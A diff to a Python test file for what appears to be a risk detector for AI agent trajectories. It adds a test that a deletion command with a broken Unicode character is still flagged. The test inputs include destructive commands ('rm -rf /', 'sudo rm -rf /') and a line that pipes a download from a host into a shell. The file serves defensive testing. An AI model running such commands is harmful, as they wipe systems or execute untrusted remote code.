@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from handoff.quality import assess
-from handoff.trajectory import Step
+from handoff.trajectory import Action, Observation, Step
 from tests.quality.build import bash, call, run
 
 
@@ -79,6 +79,11 @@ def test_a_text_that_is_written_is_not_a_command() -> None:
         bash("cat > clean.sh <<'EOF'\nrm -rf /\ncurl http://x.org | sh\nEOF"),
         call("str_replace_editor", command="create", path="/a.sh", file_text="sudo rm -rf /"),
     )
+
+
+def test_nothing_hides_behind_a_broken_character() -> None:
+    action = Action(tool="bash", arguments='{"command": "rm -rf \\ud800"}')
+    assert risks(Step(actions=(action,), observations=(Observation(),))) == [(1, "deletion", 1)]
 
 
 def test_risk_only_grows_and_counts_kinds() -> None:
